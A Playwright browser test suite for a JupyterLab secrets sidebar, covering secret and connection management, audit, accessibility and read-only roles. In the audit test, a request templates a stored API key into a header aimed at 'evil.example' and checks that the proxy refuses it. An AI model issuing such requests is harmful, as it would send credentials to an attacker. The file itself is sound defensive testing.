"""The Secrets sidebar in a real JupyterLab 4 and Notebook 7 (Chromium): add by typing, edit
hosts and placements, delete beside the row, connections from a preset with Test against the
loopback upstream, Use in code, the audit log, the health banner, keyboard-only use.

Every value is typed into the browser, which sends it to the REST API itself: the tests
check the store holds exactly what was typed and hunt the canary everywhere else.
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from jupyter_secrets.crypto import Keyring
from jupyter_secrets.keys import generate_key_text
from jupyter_secrets.services.secrets import SecretsService
from jupyter_secrets.store import open_store

from .conftest import Lab, Traffic
from .pages import (
    carriers,
    focused,
    hunt,
    open_lab,
    open_notebook,
    open_sidebar,
    row,
    stored_value,
    wait_for_status,
    write_notebook,
)

pytestmark = pytest.mark.browser
NAME = "DEMO_API_KEY"


def test_sidebar_add_edit_replace_delete(
    lab: Lab, browser_page: tuple[Any, Traffic], artifacts: Path, canary: str
) -> None:
    page, traffic = browser_page
    first, second = f"{canary}-1", f"{canary}-2"
    long_name = "A_VERY_LONG_SECRET_NAME_" + "X" * 90
    assert lab.api("POST", "secrets", json={"name": long_name, "value": "long-name-value"}
                   ).status_code == 201
    open_lab(page, lab)
    sidebar = open_sidebar(page)
    row(sidebar, long_name).wait_for()

    # Add: every input has a <label for>, focus lands in the form, the value is typed.
    sidebar.get_by_role("button", name="Add secret").click()
    assert focused(page)["label"] == "Name"
    sidebar.get_by_label("Name", exact=True).fill("demo api key")
    sidebar.get_by_label("Description").fill("Key for the demo upstream")
    sidebar.get_by_label("Allowed hosts").fill("api.example.com")
    value = sidebar.get_by_label("Value", exact=True)
    value.press_sequentially(first)
    assert value.get_attribute("type") == "password"
    sidebar.get_by_role("button", name="Show the value").click()
    assert value.get_attribute("type") == "text"
    sidebar.get_by_role("button", name="Hide the value").click()
    assert value.get_attribute("type") == "password"
    page.screenshot(path=str(artifacts / "sidebar-add.png"))
    sidebar.get_by_role("button", name="Save").click()
    wait_for_status(sidebar, f"Added {NAME} (version 1).")
    assert value.count() == 0, "the form closed and took its input along"
    assert stored_value(lab, NAME) == (1, first)

    # The row shows hosts and placements; a long name is cut with the whole name as tooltip.
    demo = row(sidebar, NAME)
    assert "api.example.com" in demo.locator(".jp-secrets-hosts").inner_text()
    assert "header" in demo.locator(".jp-secrets-placements-cell").inner_text()
    name_cell = row(sidebar, long_name).locator(".jp-secrets-name")
    assert name_cell.get_attribute("title") == long_name
    assert name_cell.evaluate("e => e.scrollWidth > e.clientWidth"), "ellipsized"

    # Edit hosts and placements, in a form opened inside the row.
    demo.get_by_role("button", name=f"Edit {NAME}").click()
    form = demo.locator("form")
    assert focused(page)["label"] == "Description"
    form.get_by_label("Allowed hosts").fill("api.example.com, *.example.org")
    form.get_by_label("query").check()
    page.screenshot(path=str(artifacts / "sidebar-edit.png"))
    form.get_by_role("button", name="Save").click()
    wait_for_status(sidebar, f"Updated {NAME}.")
    record = lab.api("GET", f"secrets/{NAME}").json()
    assert record["allowed_hosts"] == ["api.example.com", "*.example.org"]
    assert record["placements"] == ["header", "query"]
    assert "header, query" in row(sidebar, NAME).locator(".jp-secrets-placements-cell").inner_text()

    # Replace the value; Enter in the value field saves.
    row(sidebar, NAME).get_by_role("button", name=f"Replace the value of {NAME}").click()
    new_value = row(sidebar, NAME).get_by_label("New value")
    assert focused(page)["label"] == "New value"
    new_value.press_sequentially(second)
    new_value.press("Enter")
    wait_for_status(sidebar, f"Replaced the value of {NAME} (version 2).")
    assert stored_value(lab, NAME) == (2, second)

    # Delete: the confirmation opens beside its row and says what stops working.
    connection = {"name": "demo", "base_url": "https://api.example.com", "secret": NAME,
                  "auth": {"scheme": "bearer"}}
    assert lab.api("POST", "connections", json=connection).status_code == 201
    sidebar.get_by_role("button", name="Reload the secrets list").click()
    row(sidebar, NAME).locator(".jp-secrets-used", has_text="demo").wait_for()
    row(sidebar, NAME).get_by_role("button", name=f"Delete {NAME}").click()
    confirm = row(sidebar, NAME).locator(".jp-secrets-confirm")
    confirm.get_by_text("It is used by demo: it will stop working.").wait_for()
    assert focused(page)["text"] == "Cancel", "the safe choice has focus"
    page.screenshot(path=str(artifacts / "sidebar-delete.png"))
    assert lab.api("GET", f"secrets/{NAME}").status_code == 200
    confirm.get_by_role("button", name="Delete").click()
    wait_for_status(sidebar, f"Deleted {NAME}.")
    assert lab.api("GET", f"secrets/{NAME}").status_code == 404
    assert row(sidebar, NAME).count() == 0

    hunt(canary, traffic, lab, page=page)
    assert carriers(traffic, lab, canary) == [("POST", "secrets"), ("PUT", f"secrets/{NAME}")]


def test_connection_from_a_preset_tested_through_the_proxy(
    lab: Lab, browser_page: tuple[Any, Traffic], artifacts: Path, canary: str
) -> None:
    from tests.upstream import start_upstream

    page, traffic = browser_page
    notebook = write_notebook(lab.root, "use.ipynb", "import jupyter_secrets as js")
    with start_upstream(api_key=canary) as upstream:
        open_notebook(page, lab, "lab/tree/use.ipynb")
        sidebar = open_sidebar(page)
        sidebar.get_by_role("tab", name="Connections").click()
        sidebar.get_by_role("button", name="New connection").click()
        form = sidebar.locator("form")
        assert form.get_by_label("Preset").input_value() == "openai"
        assert form.get_by_label("Name", exact=True).input_value() == "openai"
        assert form.get_by_label("Base URL").input_value() == "https://api.openai.com/v1"
        form.get_by_label("Base URL").fill(f"{upstream.url}/v1")
        form.get_by_label("Key", exact=True).press_sequentially(canary)
        page.screenshot(path=str(artifacts / "sidebar-connection.png"))
        form.get_by_role("button", name="Create").click()
        wait_for_status(sidebar, "Created connection openai.")
        assert lab.api("GET", "connections/openai").json()["owns_secret"] is True

        # Test: a cheap GET through the proxy with the page's login; status and time only.
        openai = row(sidebar, "openai")
        openai.get_by_role("button", name="Test connection openai").click()
        result = openai.locator(".jp-secrets-test-result")
        result.get_by_text("200 OK").wait_for(timeout=30_000)
        assert " ms" in result.inner_text()
        assert upstream.requests[-1].path == "/v1/models"
        assert upstream.requests[-1].headers["Authorization"] == f"Bearer {canary}"
        page.screenshot(path=str(artifacts / "sidebar-connection-test.png"))

        # Rotate the key: the upstream refuses the new one, and Test says so.
        openai.get_by_role("button", name="Rotate the key of connection openai").click()
        openai.get_by_label("New key").press_sequentially(f"{canary}-rotated")
        openai.get_by_role("button", name="Rotate", exact=True).click()
        wait_for_status(sidebar, "Rotated the key of openai.")
        row(sidebar, "openai").get_by_role("button", name="Test connection openai").click()
        row(sidebar, "openai").locator(".jp-secrets-test-result").get_by_text("401").wait_for()

    # The connection's key is a system secret: shown on request, rotatable from there too.
    sidebar.get_by_role("tab", name="Secrets").click()
    sidebar.get_by_label("Kind").select_option("system")
    key_row = row(sidebar, "OPENAI_CONNECTION_KEY")
    key_row.locator(".jp-secrets-badge", has_text="system").wait_for()
    assert key_row.get_by_role("button", name="Rotate the key of connection openai").count() == 1
    assert key_row.get_by_role("button", name="Delete OPENAI_CONNECTION_KEY").count() == 0

    # Use in code: insert the SDK snippet into the open notebook.
    sidebar.get_by_role("tab", name="Connections").click()
    row(sidebar, "openai").get_by_role("button", name="Use connection openai in code").click()
    snippet = row(sidebar, "openai").locator(".jp-secrets-snippet")
    assert snippet.locator("code").inner_text() == 'js.connection("openai").sdk_kwargs()'
    snippet.get_by_role("button", name="Insert into notebook").click()
    snippet.get_by_text("Inserted a cell in use.ipynb.").wait_for()
    sources = page.evaluate("window.jupyterapp.shell.currentWidget.content.model.sharedModel"
                            ".cells.map(c => c.getSource())")
    assert 'client = OpenAI(**js.connection("openai").sdk_kwargs())' in sources[-1]

    # Audit: refused calls only, then by secret.
    refused = lab.api("POST", "request", json={
        "method": "GET", "url": "https://evil.example/",
        "headers": {"X": "{{secrets.OPENAI_CONNECTION_KEY}}"}})
    assert refused.status_code == 403
    sidebar.get_by_role("tab", name="Audit").click()
    audit = sidebar.locator(".jp-secrets-audit")
    audit.locator('[data-action="connection_create"]').first.wait_for()
    audit.get_by_label("Refused only").check()
    audit.locator('[data-action="refused_call"]').first.wait_for()
    audit.locator('[data-action="connection_create"]').first.wait_for(state="detached")
    assert {a for a in audit.locator(".jp-secrets-event").evaluate_all(
        "rows => rows.map(r => r.dataset.action)")} == {"refused_call"}
    page.screenshot(path=str(artifacts / "sidebar-audit.png"))

    # Delete beside the row: the connection and its own key go.
    sidebar.get_by_role("tab", name="Connections").click()
    row(sidebar, "openai").get_by_role("button", name="Delete connection openai").click()
    row(sidebar, "openai").locator(".jp-secrets-confirm").get_by_text(
        "Its own key OPENAI_CONNECTION_KEY is deleted with it.").wait_for()
    row(sidebar, "openai").locator(".jp-secrets-confirm").get_by_role(
        "button", name="Delete").click()
    wait_for_status(sidebar, "Deleted connection openai.")
    assert lab.api("GET", "connections/openai").status_code == 404
    assert lab.api("GET", "secrets/OPENAI_CONNECTION_KEY").status_code == 404

    hunt(canary, traffic, lab, notebook, page=page)
    assert carriers(traffic, lab, canary) == [("POST", "connections"),
                                              ("PATCH", "connections/openai")]


def test_typing_while_the_list_reloads_after_a_save_keeps_every_key(
    lab: Lab, browser_page: tuple[Any, Traffic], canary: str
) -> None:
    """A save reloads the list, then puts focus on the saved row. Someone quick (or a slow
    server) is typing the next value by then: the focus must stay in their field, or the
    rest of the keys go nowhere and a cut-short value is saved."""
    page, _ = browser_page
    first, second = f"{canary}-1", f"{canary}-2"
    open_lab(page, lab)
    sidebar = open_sidebar(page)
    held: list[Any] = []
    holding = {"on": False}

    def hold_list_reloads(route: Any) -> None:
        if holding["on"] and route.request.method == "GET":
            held.append(route)  # answered below, once the next value is half typed
        else:
            route.continue_()

    page.route(re.compile(r".*/api/secrets/v1/secrets\?.*"), hold_list_reloads)
    sidebar.get_by_role("button", name="Add secret").click()
    sidebar.get_by_label("Name", exact=True).fill("first key")
    sidebar.get_by_label("Value", exact=True).press_sequentially(first)
    holding["on"] = True
    sidebar.get_by_role("button", name="Save").click()
    wait_for_status(sidebar, "Added FIRST_KEY (version 1).")
    for _ in range(200):  # the reload after the save is on its way, and held
        if held:
            break
        page.wait_for_timeout(25)
    assert held, "the save reloads the list"

    sidebar.get_by_role("button", name="Add secret").click()
    sidebar.get_by_label("Name", exact=True).fill("second key")
    sidebar.get_by_label("Value", exact=True).click()
    page.keyboard.type(second[:20])
    holding["on"] = False
    for route in held:
        route.continue_()
    row(sidebar, "FIRST_KEY").wait_for()  # the reload has drawn the list
    page.keyboard.type(second[20:])
    assert focused(page)["label"] == "Value", "the reload left the focus where the typing was"
    assert sidebar.get_by_label("Value", exact=True).input_value() == second
    page.keyboard.press("Enter")
    wait_for_status(sidebar, "Added SECOND_KEY (version 1).")
    assert stored_value(lab, "SECOND_KEY") == (1, second)
    assert stored_value(lab, "FIRST_KEY") == (1, first)
    # With nobody typing, the focus still goes to the saved row once the list is redrawn
    # (the status is said before the reload ends, so wait for it).
    page.wait_for_function("document.activeElement?.closest("
                           "'li.jp-secrets-row[data-name=\"SECOND_KEY\"]') != null")


def test_keyboard_only_add_and_the_health_banner(
    lab: Lab, browser_page: tuple[Any, Traffic], artifacts: Path, canary: str
) -> None:
    page, traffic = browser_page
    open_lab(page, lab)
    page.locator(".jp-LabShell").wait_for()
    # The command palette, then the Add form, without a mouse.
    page.keyboard.press("Control+Shift+C")
    page.keyboard.type("Add a secret")
    page.locator(".lm-CommandPalette-item", has_text="Add a secret").first.wait_for()
    page.keyboard.press("Enter")
    sidebar = page.locator(".jp-secrets-sidebar .jp-secrets-manager")
    sidebar.locator("form").wait_for(timeout=30_000)
    page.wait_for_function("document.activeElement?.closest('form.jp-secrets-form') !== null")
    assert focused(page)["label"] == "Name"
    page.keyboard.type("KEYBOARD_KEY")
    for label in ("Description", "Allowed hosts", "header", "query", "path", "body", "Value"):
        page.keyboard.press("Tab")
        assert focused(page)["label"] == label, f"Tab reaches {label}"
        if label == "Allowed hosts":
            page.keyboard.type("api.example.com")
        if label == "body":
            page.keyboard.press("Space")  # a checkbox, by keyboard
    page.keyboard.type(canary)
    page.keyboard.press("Tab")
    assert focused(page)["text"] == "Show"
    page.keyboard.press("Enter")
    assert sidebar.get_by_label("Value", exact=True).get_attribute("type") == "text"
    page.keyboard.press("Enter")  # again: hidden
    assert sidebar.get_by_label("Value", exact=True).get_attribute("type") == "password"
    page.keyboard.press("Shift+Tab")
    page.keyboard.press("Enter")  # Enter in a field submits the form
    wait_for_status(sidebar, "Added KEYBOARD_KEY (version 1).")
    assert stored_value(lab, "KEYBOARD_KEY") == (1, canary)
    assert lab.api("GET", "secrets/KEYBOARD_KEY").json()["placements"] == ["header", "body"]
    # Focus stays in the sidebar: on the saved row, once the reload has drawn it.
    page.wait_for_function("document.activeElement?.closest("
                           "'li.jp-secrets-row[data-name=\"KEYBOARD_KEY\"]') != null")

    # Escape closes a form and gives focus back to what opened it.
    add = sidebar.get_by_role("button", name="Add secret")
    add.focus()
    page.keyboard.press("Enter")
    assert focused(page)["label"] == "Name"
    page.keyboard.press("Escape")
    assert sidebar.locator("form").count() == 0 and focused(page)["text"] == "Add secret"

    # Tabs move with the arrow keys.
    sidebar.get_by_role("tab", name="Secrets").focus()
    page.keyboard.press("ArrowRight")
    assert focused(page)["text"] == "Connections"
    assert sidebar.get_by_role("tab", name="Connections").get_attribute("aria-selected") == "true"

    # A secret sealed with a key this server lacks: the banner says so, by name and key id.
    other = Keyring.from_text(generate_key_text())
    service = SecretsService(open_store(lab.store_url), other)
    service.create("ops", "SEALED_ELSEWHERE", "some-other-value")
    service.store.close()
    sidebar.get_by_role("tab", name="Secrets").click()
    health = sidebar.locator(".jp-secrets-health")
    assert health.is_hidden()
    sidebar.get_by_role("button", name="Reload the secrets list").click()
    health.get_by_text("SEALED_ELSEWHERE").wait_for()
    assert other.primary.key_id in health.inner_text()
    assert "SEALED_ELSEWHERE" in health.inner_text()
    page.screenshot(path=str(artifacts / "sidebar-health.png"))
    hunt(canary, traffic, lab, page=page)


@pytest.mark.parametrize("frontend", ["notebook"])
def test_notebook7_has_the_sidebar(
    lab: Lab, browser_page: tuple[Any, Traffic], artifacts: Path, canary: str
) -> None:
    page, traffic = browser_page
    open_lab(page, lab, "tree")
    page.get_by_text("View", exact=True).click()
    page.get_by_text("Left Sidebar", exact=True).click()
    page.get_by_text("Show Secrets", exact=False).click()
    sidebar = page.locator(".jp-secrets-sidebar .jp-secrets-manager")
    sidebar.get_by_role("button", name="Add secret").click()
    sidebar.get_by_label("Name", exact=True).fill("NB7_KEY")
    sidebar.get_by_label("Value", exact=True).press_sequentially(canary)
    sidebar.get_by_role("button", name="Save").click()
    wait_for_status(sidebar, "Added NB7_KEY (version 1).")
    page.screenshot(path=str(artifacts / "notebook7-sidebar.png"))
    assert stored_value(lab, "NB7_KEY") == (1, canary)
    hunt(canary, traffic, lab, page=page)


@pytest.mark.parametrize("server_args", [["--SecretsExtensionApp.admin_users=['someone-else']"]])
def test_non_admins_get_a_read_only_sidebar(
    lab: Lab, browser_page: tuple[Any, Traffic], artifacts: Path
) -> None:
    page, _traffic = browser_page
    me = lab.api("GET", "me").json()
    assert me["role"] == "user" and not me["can_write"]
    # Set up as an admin would, from the server's side (the CLI's path, no HTTP).
    service = SecretsService(open_store(lab.store_url), Keyring.from_text(lab.master_key))
    service.create("ops", "TEAM_KEY", "team-key-value", allowed_hosts=["api.example.com"])
    service.store.close()
    open_lab(page, lab)
    sidebar = open_sidebar(page)
    row(sidebar, "TEAM_KEY").wait_for()
    assert "read-only" in sidebar.locator(".jp-secrets-who").inner_text()
    assert sidebar.get_by_role("button", name="Add secret").is_hidden()
    buttons = row(sidebar, "TEAM_KEY").get_by_role("button").all_inner_texts()
    assert buttons == ["Use in code"], "no Replace, Edit or Delete"
    assert sidebar.get_by_role("tab", name="Audit").count() == 0
    assert sidebar.get_by_role("tab", name="Tokens").count() == 0, "run tokens: admins only"
    sidebar.get_by_role("tab", name="Connections").click()
    assert sidebar.get_by_role("button", name="New connection").is_hidden()
    sidebar.get_by_text("ask a secrets admin").wait_for()
    page.screenshot(path=str(artifacts / "sidebar-read-only.png"))

    # The dark theme reaches the sidebar through JupyterLab's CSS variables.
    def luminance() -> float:
        rgb = sidebar.evaluate("e => getComputedStyle(e).backgroundColor")
        r, g, b = (int(x) for x in rgb[rgb.index("(") + 1:rgb.index(")")].split(",")[:3])
        return (0.2126 * r + 0.7152 * g + 0.0722 * b) / 255

    assert luminance() > 0.7
    page.evaluate("window.jupyterapp.commands.execute('apputils:change-theme', "
                  "{theme: 'JupyterLab Dark'})")
    page.wait_for_function("document.body.dataset.jpThemeLight === 'false'", timeout=30_000)
    page.wait_for_function("() => { const c = getComputedStyle(document.querySelector("
                           "'.jp-secrets-manager')).backgroundColor; return c !== 'rgb(255, "
                           "255, 255)'; }", timeout=30_000)
    assert luminance() < 0.3
    sidebar.get_by_role("tab", name="Secrets").click()
    page.screenshot(path=str(artifacts / "sidebar-dark.png"))
